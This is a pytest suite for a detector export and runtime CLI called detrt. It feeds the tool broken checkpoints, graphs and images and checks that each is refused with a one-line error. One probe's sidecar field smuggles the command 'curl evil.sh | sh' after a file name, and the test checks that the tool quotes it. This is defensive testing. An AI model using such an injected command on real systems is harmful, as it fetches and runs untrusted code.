"""Every probe of the hardening review (issue 17) as one table: what is given, which command, the exit
code (0 or 2: never 1, never a signal), a fragment of the one-line message, and no files left behind.

Rows run `detrt` in this process (`main(argv)`); the probes where a signal or an abort matters run the
real `detrt` process (at the end of the module).
"""
from __future__ import annotations

import argparse
import copy
import functools
import json
import os
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import cv2
import numpy as np
import onnx
import pytest
import torch
from onnx import numpy_helper
from PIL import Image

from detrt.detectors.data.images import image_size, read_image
from detrt.detectors.tempfiles import tag
from detrt.detectors.zoo import ENTRIES
from detrt.export.onnx_passes import constant_values
from detrt.runtime.cli import main
from support.shipped import ZOO, shapes_dataset, shipped_onnx

DETRT = str(Path(sys.executable).with_name("detrt"))
MSDA = "DetrtMultiscaleDeformableAttn"
TEMP_PREFIXES = ("detrt-calib-", "detrt-quant-", "detrt-ap-")


# ---------------------------------------------------------------- inputs a user or attacker gives


@functools.cache
def _zoo_checkpoint() -> dict:
    # the shipped checkpoint, trusted (it is ours): read in full to make broken variants of it
    return torch.load(ENTRIES[ZOO].weights, map_location="cpu", weights_only=False)


def checkpoint(folder: Path, name: str, change: Callable[[dict, dict], None]) -> Path:
    """The shipped checkpoint with `change(state_dict, saved_args)` applied."""
    content = copy.deepcopy(_zoo_checkpoint())
    saved = vars(content["args"])
    change(content["model"], saved)
    content["args"] = argparse.Namespace(**saved)
    torch.save(content, folder / name)
    return folder / name


def nan_weights(state_dict: dict, _: dict) -> None:
    for key, tensor in state_dict.items():
        if tensor.is_floating_point():
            state_dict[key] = torch.full_like(tensor, float("nan"))


def nan_class_head(state_dict: dict, _: dict) -> None:
    for key in [k for k in state_dict if k.startswith("class_embed")]:
        state_dict[key] = torch.full_like(state_dict[key], float("nan"))


def stride_zero(state_dict: dict, _: dict) -> None:
    state_dict["query_embed.weight"] = torch.zeros(1).as_strided((10**9, 10**9), (0, 0))


def small_stride_zero(state_dict: dict, _: dict) -> None:
    state_dict["query_embed.weight"] = torch.zeros(1, 256).expand(40, 256)


def raw_file(folder: Path, name: str, data: bytes) -> Path:
    (folder / name).write_bytes(data)
    return folder / name


@functools.cache
def _plugin_graph() -> onnx.ModelProto:
    return onnx.load(str(shipped_onnx()))


def graph(folder: Path, name: str, shapes: list | None = None, starts: list | None = None,
          attribute: list | None = None, metadata: dict | None = None, nan_initializer: str = "") -> Path:
    """The shipped plugin export with its level table, the nodes' spatial_shapes attribute, metadata
    entries or one initializer replaced."""
    model = copy.deepcopy(_plugin_graph())
    nodes = [node for node in model.graph.node if node.op_type == MSDA]
    constants = constant_values(model)
    for position, table in ((1, shapes), (2, starts)):
        if table is not None:
            tensor = constants[nodes[0].input[position]]
            tensor.CopyFrom(numpy_helper.from_array(np.array(table, np.int32), tensor.name))
    for node in nodes if attribute is not None else []:
        (spatial,) = [a for a in node.attribute if a.name == "spatial_shapes"]
        spatial.CopyFrom(onnx.helper.make_attribute("spatial_shapes", attribute))
    for prop in model.metadata_props:
        prop.value = (metadata or {}).get(prop.key.removeprefix("detrt."), prop.value)
    for tensor in model.graph.initializer:
        if nan_initializer and nan_initializer in tensor.name:
            tensor.CopyFrom(numpy_helper.from_array(np.full_like(numpy_helper.to_array(tensor), np.nan), tensor.name))
    onnx.save(model, folder / name)
    return folder / name


def image(folder: Path, name: str = "image.png", size: tuple[int, int] = (96, 128), mode: str = "RGB") -> Path:
    pixels = np.random.default_rng(0).integers(0, 255, (*size, 3), dtype=np.uint8)
    Image.fromarray(pixels).convert(mode).save(folder / name)
    return folder / name


def image_folder(folder: Path, modes: tuple[str, ...] = ("RGB", "L", "RGBA", "P"), broken: bool = False) -> Path:
    images = folder / "images"
    images.mkdir(exist_ok=True)
    for index, mode in enumerate(modes):
        image(images, f"{index}-{mode}.png", mode=mode)
    if broken:
        raw_file(images, "broken.jpg", b"\xff\xd8 not a jpeg")
    return images


def png_header_only(folder: Path, width: int, height: int) -> Path:
    """A small PNG that declares width x height (decoding it would allocate the full frame)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    data = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 1024)) + chunk(b"IEND", b""))
    return raw_file(folder, "huge.png", data)


def stale_temporary(folder: Path, name: str) -> Path:
    """`folder/name`, beside the hidden temporary file that a writer killed with -9 left."""
    raw_file(folder, f".{name}.pid{_dead_pid()}-abcd.tmp", b"half an ONNX")
    return folder / name


def engine_with_sidecar(folder: Path, sidecar: str) -> Path:
    (folder / "model.engine").write_bytes(b"not really an engine")
    (folder / "model.engine.json").write_text(sidecar)
    return folder / "model.engine"


# ---------------------------------------------------------------- the probe table


@dataclass(frozen=True)
class Probe:
    """argv(tmp_path) -> the `detrt` arguments; the expected exit code and message fragments."""

    argv: Callable[[Path], list[str]]
    code: int
    fragment: str
    absent: tuple[str, ...] = ()  # text the message must not contain
    env: dict = field(default_factory=dict)
    no_output: str = ""  # a file the command must not have written
    output: str = ""  # a file the command must have written


def run_on(model: Callable[[Path], Path], *extra: str) -> Callable[[Path], list[str]]:
    return lambda tmp: ["run", str(model(tmp)), "--source", str(image(tmp)), *extra]


LEVELS = {  # (spatial_shapes, level_start_index, attribute) lies of a plugin graph, and what the error says.
    # The attribute follows the lying table unless the lie is about it. The graph has a dynamic batch, so S is
    # not static: the first two lies pass the graph checks and are refused by the op, at run time.
    "too-big": ([[64, 64], [32, 32], [16, 16]], [0, 4096, 5120], "=", "value input has S = 1344"),
    "fewer-levels": ([[32, 32], [16, 16]], [0, 1024], "=", "value input has S = 1344"),
    "negative": ([[-32, 32], [16, 16], [8, 8]], None, "=", "must be positive"),
    "zero": ([[0, 32], [16, 16], [8, 8]], None, "=", "must be positive"),
    "int32-overflow": ([[65536, 65536], [16, 16], [8, 8]], None, "=", "more than int32 indices reach"),
    "out-of-order": (None, [0, 1280, 1024], None, "is not the running sum"),
    "right-total-wrong-geometry": ([[16, 64], [16, 16], [8, 8]], None, "=", "not the 256x256 input divided by a whole stride"),
    "swapped-levels": ([[16, 16], [32, 32], [8, 8]], [0, 256, 1280], "=", "neither finest first nor coarsest"),
    "first-level-not-the-input": ([[30, 30], [15, 15], [8, 8]], [0, 900, 1125], "=", "not the 256x256 input divided by a whole stride"),
    "attribute-differs": (None, None, [32, 32, 16, 16, 4, 16], "differs from its spatial_shapes input"),
}


def lying(name: str) -> Callable[[Path], Path]:
    shapes, starts, attribute, _ = LEVELS[name]
    attribute = np.array(shapes).reshape(-1).tolist() if attribute == "=" else attribute
    return lambda tmp: graph(tmp, f"{name}.onnx", shapes, starts, attribute)


def coco_images() -> Path:
    return shapes_dataset().parent / "images"


PROBES = {
    # 1. plugin graphs whose level table lies: refused with the node named, in every command
    **{f"plugin-{name}-run": Probe(run_on(lying(name)), 2, LEVELS[name][3])
       for name in LEVELS},
    "plugin-lie-bench": Probe(lambda tmp: ["bench", str(lying("too-big")(tmp)), "--iters", "1", "--warmup", "0",
                                           "--out", str(tmp / "bench")], 2, "value input has S = 1344"),
    "plugin-lie-convert": Probe(lambda tmp: ["convert", str(lying("negative")(tmp)), "--precision", "fp16", "-o",
                                             str(tmp / "out.onnx")], 2, "must be positive", no_output="out.onnx"),
    "plugin-lie-calibrate": Probe(lambda tmp: ["calibrate", str(lying("too-big")(tmp)), "--images",
                                               str(image_folder(tmp)), "--batch", "2", "-o", str(tmp / "out.onnx")], 2,
                                  "value input has S", no_output="out.onnx"),
    "plugin-lie-compare": Probe(lambda tmp: ["compare", "--zoo", ZOO, "--candidate", str(lying("too-big")(tmp)),
                                             "--images", str(image_folder(tmp, ("RGB",))), "--out", str(tmp / "cmp")],
                                2, "value input has S"),
    "plugin-lie-build": Probe(lambda tmp: ["build", str(lying("swapped-levels")(tmp)), "-o", str(tmp / "m.engine")],
                              2, "neither finest first nor coarsest", no_output="m.engine"),
    # 2. NaN is never a result
    "nan-weights-export": Probe(lambda tmp: ["export", str(checkpoint(tmp, "nan.pth", nan_weights)), "-o",
                                            str(tmp / "nan.onnx")], 2, "NaN or infinite", no_output="nan.onnx"),
    "nan-weights-eval": Probe(lambda tmp: ["eval", str(checkpoint(tmp, "nan.pth", nan_weights)), "--coco",
                                           str(shapes_dataset())], 2, "NaN or infinite"),
    "nan-class-head-eval": Probe(lambda tmp: ["eval", str(checkpoint(tmp, "nan.pth", nan_class_head)), "--coco",
                                              str(shapes_dataset())], 2, "class_embed"),
    "nan-graph-run-conf-0": Probe(lambda tmp: run_on(lambda t: graph(t, "nan.onnx", nan_initializer="class_embed"),
                                                     "--conf", "0", "--save", str(tmp / "out"))(tmp),
                                  2, "NaN or infinite score"),
    "nan-graph-bench": Probe(lambda tmp: ["bench", str(graph(tmp, "nan.onnx", nan_initializer="class_embed")), "--iters",
                                          "1", "--warmup", "0", "--out", str(tmp / "bench")], 2, "NaN or infinite score"),
    "nan-graph-compare": Probe(lambda tmp: ["compare", "--zoo", ZOO, "--candidate", str(graph(
        tmp, "nan.onnx", nan_initializer="class_embed")), "--images", str(image_folder(tmp, ("RGB",))), "--out",
        str(tmp / "cmp")], 2, "NaN or infinite score"),
    # 3. one-line errors instead of tracebacks
    "zero-byte-checkpoint": Probe(lambda tmp: ["inspect", str(raw_file(tmp, "empty.pth", b""))], 2,
                                  "looks like an empty file", absent=("weights_only=False",)),
    "nheads-0": Probe(lambda tmp: ["inspect", str(checkpoint(tmp, "h.pth", lambda _, a: a.update(nheads=0)))], 2,
                      "nheads must be a positive whole number"),
    "metadata-batch-abc": Probe(run_on(lambda tmp: graph(tmp, "m.onnx", metadata={"batch": '"abc"'})), 2,
                                "metadata field batch must be null"),
    "sidecar-not-an-object": Probe(lambda tmp: ["run", str(engine_with_sidecar(tmp, "[1, 2]")), "--source",
                                                str(image(tmp))], 2, "holds a JSON list, not an object"),
    "build-truncated-onnx": Probe(lambda tmp: ["build", str(raw_file(tmp, "t.onnx", shipped_onnx().read_bytes()[:5000])),
                                               "-o", str(tmp / "t.engine")], 2, "is not a readable ONNX file"),
    "huge-camera-index": Probe(lambda tmp: ["run", ZOO, "--source", "99999999999999999999"], 2, "camera index"),
    # 4. messages that say what the file is
    "random-bytes-checkpoint": Probe(lambda tmp: ["inspect", str(raw_file(tmp, "r.pth", os.urandom(4096)))], 2,
                                     "random or unknown bytes", absent=("weights_only=False", "unpickling")),
    "json-checkpoint": Probe(lambda tmp: ["inspect", str(raw_file(tmp, "j.pth", b'{"model": 1}'))], 2,
                             "looks like a JSON file", absent=("weights_only=False", "unpickling")),
    "onnx-checkpoint": Probe(lambda tmp: ["inspect", str(raw_file(tmp, "o.pth", shipped_onnx().read_bytes()))], 2,
                             "looks like an ONNX model", absent=("weights_only=False", "unpickling")),
    "truncated-checkpoint": Probe(lambda tmp: ["inspect", str(raw_file(tmp, "t.pth", ENTRIES[ZOO].weights.read_bytes()[:100000]))],
                                  2, "is truncated or corrupt", absent=("weights_only=False",)),
    "metadata-not-json": Probe(run_on(lambda tmp: graph(tmp, "m.onnx", metadata={"class_names": "not json"})), 2,
                               "metadata field class_names is not valid JSON"),
    # 5. bounds before large allocations
    "stride-0-huge-tensor": Probe(lambda tmp: ["inspect", str(checkpoint(tmp, "s.pth", stride_zero))], 2,
                                  "more than any detector weight"),
    "stride-0-tensor": Probe(lambda tmp: ["inspect", str(checkpoint(tmp, "s.pth", small_stride_zero))], 2,
                             "is not stored in full"),
    "saved-fixed-size-60000": Probe(lambda tmp: ["inspect", str(checkpoint(
        tmp, "f.pth", lambda _, a: a["preprocess"].update(fixed_size=[60000, 60000])))], 2, "fixed_size 60000x60000"),
    "metadata-input-size-100000": Probe(run_on(lambda tmp: graph(tmp, "m.onnx", metadata={"input_size": "[100000, 100000]"})),
                                        2, "input_size 100000x100000 is outside 1..4096"),
    "metadata-input-size-differs": Probe(run_on(lambda tmp: graph(tmp, "m.onnx", metadata={"input_size": "[512, 512]"})),
                                         2, "differs from the graph's input [256, 256]"),
    "export-size-99999": Probe(lambda tmp: ["export", "--zoo", ZOO, "-o", str(tmp / "x.onnx"), "--size", "99999x99999"],
                               2, "--size 99999x99999 is outside", no_output="x.onnx"),
    "image-12000x12000": Probe(lambda tmp: ["run", ZOO, "--source", str(png_header_only(tmp, 12000, 12000))], 2,
                               "12000x12000 = 144000000 pixels, more than the limit of 100000000"),
    "pixel-limit-configurable": Probe(lambda tmp: ["run", ZOO, "--source", str(image(tmp))], 2,
                                      "more than the limit of 1000", env={"DETRT_MAX_IMAGE_PIXELS": "1000"}),
    # 6. metadata and sidecars are validated; suggested commands are quoted
    "convert-invalid-metadata": Probe(lambda tmp: ["convert", str(graph(tmp, "m.onnx", metadata={"batch": '"abc"'})),
                                                   "--precision", "fp16", "-o", str(tmp / "out.onnx")], 2,
                                      "metadata field batch", no_output="out.onnx"),
    "sidecar-onnx-path-injection": Probe(lambda tmp: ["run", str(engine_with_sidecar(
        tmp, json.dumps({"format": 1, "onnx": {"path": "m.onnx; curl evil.sh | sh"}}))), "--source", str(image(tmp))],
        2, "detrt build 'm.onnx; curl evil.sh | sh' -o", absent=("build m.onnx;",)),
    "sidecar-typed-fields": Probe(lambda tmp: ["run", str(engine_with_sidecar(tmp, json.dumps(
        {"format": 1, "tensorrt_version": ["10"], "gpu": "x", "compute_capability": "8.6", "metadata_props": {}}))),
        "--source", str(image(tmp))], 2, "tensorrt_version must be a string"),
    # 7. images: one reader, one policy; argument validation
    "grayscale-rgba-palette-16bit-calibrate": Probe(lambda tmp: ["calibrate", str(shipped_onnx()), "--images",
                                                                 str(image_folder(tmp, ("RGB", "L", "RGBA", "I;16"))),
                                                                 "--batch", "2", "--method", "minmax",
                                                                 "-o", str(tmp / "int8.onnx")], 0, "",
                                                    output="int8.onnx"),
    "grayscale-compare": Probe(lambda tmp: ["compare", "--zoo", ZOO, "--candidate", str(shipped_onnx()), "--images",
                                            str(image_folder(tmp, ("L", "P"))), "--out", str(tmp / "cmp")], 0, "",
                               output="cmp/compare.md"),
    "bad-image-calibrate-skipped": Probe(lambda tmp: ["calibrate", str(shipped_onnx()), "--images", str(image_folder(
        tmp, ("RGB",) * 2, broken=True)), "--batch", "2", "--method", "minmax", "-o", str(tmp / "int8.onnx")], 0,
        "skipped broken.jpg: cannot decode image", output="int8.onnx"),
    "bad-image-calibrate-strict": Probe(lambda tmp: ["calibrate", str(shipped_onnx()), "--images", str(image_folder(
        tmp, ("RGB",) * 2, broken=True)), "--strict", "-o", str(tmp / "int8.onnx")], 2, "broken.jpg (cannot identify image file); --strict stops",
        no_output="int8.onnx"),
    "bad-image-convert-skipped": Probe(lambda tmp: ["convert", str(shipped_onnx()), "--precision", "fp16", "--images",
                                                    str(image_folder(tmp, ("RGB",), broken=True)), "--batch", "1",
                                                    "-o", str(tmp / "fp16.onnx")], 0, "skipped broken.jpg",
                                       output="fp16.onnx"),
    "bad-image-compare-skipped": Probe(lambda tmp: ["compare", "--zoo", ZOO, "--candidate", str(shipped_onnx()),
                                                    "--images", str(image_folder(tmp, ("RGB",), broken=True)),
                                                    "--out", str(tmp / "cmp")], 0, "skipped broken.jpg",
                                       output="cmp/compare.md"),
    # the same atomic writer saves every ONNX (export, convert, calibrate): convert is the quickest to run
    "stale-temporary-of-a-killed-writer": Probe(lambda tmp: ["convert", str(shipped_onnx()), "--precision", "fp16",
                                                             "-o", str(stale_temporary(tmp, "x.onnx"))], 0, "",
                                                output="x.onnx"),
    "conf-nan": Probe(lambda tmp: ["run", ZOO, "--source", str(image(tmp)), "--conf", "nan"], 2,
                      "--conf: must be a number from 0 to 1"),
    "conf-negative": Probe(lambda tmp: ["run", ZOO, "--source", str(image(tmp)), "--conf", "-1"], 2,
                           "--conf: must be a number from 0 to 1"),
    "batch-0": Probe(lambda tmp: ["run", ZOO, "--source", str(image(tmp)), "--batch", "0"], 2, "--batch: must be"),
}


def _no_leftovers(tmp_path: Path) -> list[str]:
    hidden = [str(p) for p in tmp_path.rglob(".*.tmp")]
    temporary = [str(p) for p in Path(tempfile.gettempdir()).iterdir() if p.name.startswith(TEMP_PREFIXES)]
    return hidden + temporary


@pytest.fixture
def private_temp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The system temp folder of this test, so that leftovers are ours to see."""
    folder = tmp_path / "system-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.mark.parametrize("name", list(PROBES))
def test_probe(name: str, tmp_path: Path, private_temp: Path, monkeypatch: pytest.MonkeyPatch,
               capsys: pytest.CaptureFixture[str]) -> None:
    probe = PROBES[name]
    for key, value in probe.env.items():
        monkeypatch.setenv(key, value)
    argv = probe.argv(tmp_path)
    try:
        code = main(argv)
    except SystemExit as exit_:  # argparse refuses an argument
        code = exit_.code
    err = capsys.readouterr().err
    assert code == probe.code, err
    assert probe.fragment in err
    if name.startswith("plugin-"):
        assert "plugin node /model/transformer/" in err and f"/{MSDA}:" in err  # the node is named
    message = [line for line in err.splitlines() if line.startswith("detrt ")]
    if probe.code == 2:
        assert len(message) == 1 and "Traceback" not in err, err
    assert not any(text in err for text in probe.absent), err
    assert not probe.no_output or not (tmp_path / probe.no_output).exists()
    assert not probe.output or (tmp_path / probe.output).is_file()
    assert _no_leftovers(tmp_path) == []
    if "--save" in argv and (tmp_path / "out" / "detections.jsonl").exists():
        for line in (tmp_path / "out" / "detections.jsonl").read_text().splitlines():
            json.loads(line, parse_constant=lambda constant: pytest.fail(f"{constant} in detections.jsonl"))


# ---------------------------------------------------------------- images: one reader


def test_every_pixel_format_becomes_rgb_uint8(tmp_path: Path) -> None:
    palette = Image.new("P", (5, 4), 1)
    palette.putpalette([0, 0, 0, 10, 20, 30])
    expected = {"L": [200] * 3, "RGBA": [10, 20, 30], "P": [10, 20, 30], "I;16": [255] * 3, "I": [128] * 3,
                "LA": [200] * 3, "CMYK": None}
    sources = {"L": Image.new("L", (5, 4), 200), "RGBA": Image.new("RGBA", (5, 4), (10, 20, 30, 0)),
               "P": palette, "I;16": Image.new("I;16", (5, 4), 65535),
               "I": Image.new("I", (5, 4), 32896), "LA": Image.new("LA", (5, 4), (200, 9)),
               "CMYK": Image.new("CMYK", (5, 4), (0, 0, 0, 0))}
    for mode, source in sources.items():
        path = tmp_path / f"{mode.replace(';', '')}.{'jpg' if mode == 'CMYK' else 'png' if mode != 'I' else 'tif'}"
        source.save(path)
        pixels = read_image(path)
        assert pixels.shape == (4, 5, 3) and pixels.dtype == np.uint8 and pixels.flags.writeable, mode
        if expected[mode] is not None:
            assert pixels[0, 0].tolist() == expected[mode], mode


def test_exif_orientation_is_applied_by_every_reader(tmp_path: Path) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90 degrees clockwise to display
    path = tmp_path / "phone.jpg"
    Image.new("RGB", (64, 32), (200, 10, 10)).save(path, exif=exif)
    assert read_image(path).shape == (64, 32, 3) and image_size(path) == (64, 32)
    from detrt.detectors.data.coco import CocoDataset  # eval and compare read dataset images through read_image too
    from detrt.runtime.apps.sources import open_source

    with open_source(path) as source:
        (frame,) = list(source)
    assert frame.image.shape == (64, 32, 3)
    (tmp_path / "a.json").write_text(json.dumps({"images": [{"id": 1, "file_name": "phone.jpg", "height": 64,
                                                             "width": 32}], "annotations": [],
                                                 "categories": [{"id": 1, "name": "x"}]}))
    assert tuple(CocoDataset.read(tmp_path / "a.json", tmp_path).load_image(0).shape) == (3, 64, 32)


# ---------------------------------------------------------------- leftovers of killed runs


def _dead_pid() -> int:
    process = subprocess.Popen([sys.executable, "-c", "pass"])
    process.wait()
    return process.pid


def test_stale_temporary_files_of_killed_runs_are_removed(tmp_path: Path, private_temp: Path) -> None:
    from detrt.detectors.atomic import write_bytes_atomic
    from detrt.detectors.tempfiles import temporary_folder

    dead = _dead_pid()
    stale_file = tmp_path / f".model.onnx.pid{dead}-x1.tmp"
    live_file = tmp_path / f".model.onnx.pid{os.getppid()}-x2.tmp"  # a writer that is still running
    stale_folder = private_temp / f"detrt-calib-pid{dead}-x3"
    for path in (stale_file, live_file):
        path.write_bytes(b"half")
    stale_folder.mkdir()
    write_bytes_atomic(tmp_path / "model.onnx", b"whole")
    with temporary_folder("detrt-calib-") as folder:
        assert Path(folder).name.startswith(f"detrt-calib-{tag()}")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "system-tmp") == [live_file.name, "model.onnx"]
    assert list(private_temp.iterdir()) == []


# ---------------------------------------------------------------- signals and aborts (real processes)


def _default_sigint() -> None:
    signal.signal(signal.SIGINT, signal.SIG_DFL)  # a background shell may have started us ignoring Ctrl-C


def _wait_for(condition: Callable[[], bool], process: subprocess.Popen, timeout: float = 120.0) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert process.poll() is None, process.communicate()[1]
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.05)


@pytest.mark.slow  # a real detrt process: ~5-15 s of imports and model loading
def test_plugin_op_errors_never_abort_the_process(tmp_path: Path) -> None:
    """A level table computed at run time (graph inputs) that lies: the op refuses it inside ONNX Runtime,
    and the process ends normally with the error named (an abort would be rc 134)."""
    script = f"""
import sys
sys.path.insert(0, {str(Path(__file__).parents[1])!r})
import numpy as np
from onnx import TensorProto
from support.plugin_graphs import inputs, plugin_graph
from detrt.export import DETRT_PLUGIN, DETRT_FUSED_PLUGIN, NVIDIA_PLUGIN
from detrt.export.ort_plugins import create_session
from detrt.export.plugin_graph import PluginGraphError
for node in (DETRT_PLUGIN, DETRT_FUSED_PLUGIN, NVIDIA_PLUGIN):
    feeds = inputs(node is DETRT_FUSED_PLUGIN)
    session = create_session(plugin_graph(node, feeds, TensorProto.FLOAT))
    for table in ([[8, 8], [-4, -4]], [[80000, 80000], [4, 4]], [[8, 8], [5, 4]]):
        try:
            session.run(None, dict(feeds, spatial_shapes=np.array(table, np.int32)))
        except PluginGraphError as error:
            print("refused:", error)
"""
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert result.stdout.count("refused: plugin node msda:") == 9, result.stdout


@pytest.mark.slow  # a real detrt process: ~5-15 s of imports and model loading
def test_ctrl_c_stops_run_on_a_plugin_graph_cleanly(tmp_path: Path) -> None:
    video = tmp_path / "clip.mp4"
    writer = cv2.VideoWriter(str(video), cv2.VideoWriter_fourcc(*"mp4v"), 10, (96, 96))
    for index in range(200):
        writer.write(np.full((96, 96, 3), index % 255, np.uint8))
    writer.release()
    log = tmp_path / "out" / "detections.jsonl"
    process = subprocess.Popen([DETRT, "run", str(shipped_onnx()), "--source", str(video), "--save",
                                str(tmp_path / "out")], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               preexec_fn=_default_sigint)
    _wait_for(lambda: log.is_file() and log.read_text().count("\n") >= 2, process)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 0 and "stopped by the user" in err, err
    records = [json.loads(line) for line in log.read_text().splitlines()]
    capture = cv2.VideoCapture(str(tmp_path / "out" / "video.mp4"))  # playable: the moov atom was written
    frames = 0
    while capture.read()[0]:
        frames += 1
    assert 2 <= len(records) < 200 and frames == len(records)


@pytest.mark.slow  # a real detrt process: ~5-15 s of imports and model loading
def test_sigterm_during_calibrate_leaves_no_temporary_folder(tmp_path: Path) -> None:
    system_tmp = tmp_path / "system-tmp"
    system_tmp.mkdir()
    images = image_folder(tmp_path, ("RGB",) * 4)
    process = subprocess.Popen([DETRT, "calibrate", str(shipped_onnx()), "--images", str(images), "--batch", "2",
                                "-o", str(tmp_path / "int8.onnx")], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True, env={**os.environ, "TMPDIR": str(system_tmp)})
    _wait_for(lambda: any(system_tmp.glob("detrt-calib-*")), process)
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=60)
    assert process.returncode == 128 + signal.SIGTERM, err
    assert _no_leftovers(tmp_path) == [] and not any(system_tmp.glob("detrt-*"))
    assert not (tmp_path / "int8.onnx").exists()
